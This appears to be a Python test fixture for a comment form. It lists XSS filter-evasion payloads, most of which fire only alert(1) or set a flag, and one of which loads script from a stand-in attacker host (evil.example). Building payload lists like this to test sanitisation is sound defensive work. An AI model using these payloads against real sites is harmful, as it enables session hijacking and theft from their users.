"""Cross-site scripting payloads of the kinds in the OWASP XSS Filter Evasion Cheat Sheet.

Each one, if it ever reached the page as markup, would run `alert` (or set
window.__xss), so a browser that renders the comments can tell by a dialog or that
flag. Written for this project; none contains NUL or other control characters (the
form refuses those, see tests/comments/test_bad_input.py).
"""

BASE_PAYLOADS = [
    # Plain script tags and their spellings.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="//evil.example/x.js"></script>',
    "<script>window.__xss=1</script>",
    "<<script>alert(1);//<</script>",
    "<script/xss>alert(1)</script>",
    '<script type="text/javascript">alert(1)</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img src=x onerror=window.__xss=1>",
    "<img/src=x/onerror=alert(1)>",
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    '<div onmouseover="alert(1)">悬停</div>',
    "<marquee onstart=alert(1)>滚动</marquee>",
    "<iframe onload=alert(1)>",
    '<form><button formaction="javascript:alert(1)">提交</button></form>',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<object data=x onerror=alert(1)>",
    # javascript: and data: addresses.
    '<a href="javascript:alert(1)">点我</a>',
    '<a href="JaVaScRiPt:alert(1)">点我</a>',
    '<a href="jav&#x09;ascript:alert(1)">点我</a>',
    '<a href="jav&#x0A;ascript:alert(1)">点我</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">点我</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">点我</a>',
    '<a href=" &#14; javascript:alert(1)">点我</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<img src="javascript:alert(1)">',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<bgsound src="javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<table background="javascript:alert(1)">',
    '<div style="background-image: url(javascript:alert(1))">',
    '<div style="width: expression(alert(1));">',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" '
    'content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    '<base href="javascript:alert(1)//">',
    '<math><a xlink:href="javascript:alert(1)">点我</a></math>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">点我</text></a></svg>',
    # Breaking out of an attribute, a textarea, a comment or a script block.
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</p><img src=x onerror=alert(1)><p>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '";alert(1);//',
    "';alert(1);//",
    '\\";alert(1);//',
    "</script><img src=x onerror=alert(1)>",
    # Encodings and entity tricks.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "<scr\u0130pt>alert(1)</scr\u0130pt>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=`x` onerror=alert(1)>",
    # Odd markup that browsers repair.
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x to=1>",
    "<x onclick=alert(1) contenteditable>点我</x>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    '<a href="#" onclick="alert(1)">中文链接</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # Template and framework injection.
    "{{7*7}}{% debug %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    # Plain addresses and what readers paste.
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "请看 http://example.com/?q=<script>alert(1)</script> 这个链接",
    "评论 <b>加粗</b> <i>斜体</i> <u>下划线</u>",
    "换行\n<script>alert(1)</script>\n第三行",
]

# Spelled several ways around the same trigger, as the cheat sheet's variants do.
VARIANTS = [
    "多个空格   <script>alert(1)</script>   之后",
    "\t<img src=x onerror=alert(1)>\t制表符",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<svg\tonload=alert(1)>",
    '<a\rhref="javascript:alert(1)">回车</a>',
]

XSS_PAYLOADS = BASE_PAYLOADS + VARIANTS

# Short enough for the nickname field (20 characters).
NICKNAME_PAYLOADS = [payload for payload in XSS_PAYLOADS if len(payload) <= 20]


def stored_form(payload):
    """What the form stores: stripped, with one newline convention."""
    return payload.strip().replace("\r\n", "\n").replace("\r", "\n")
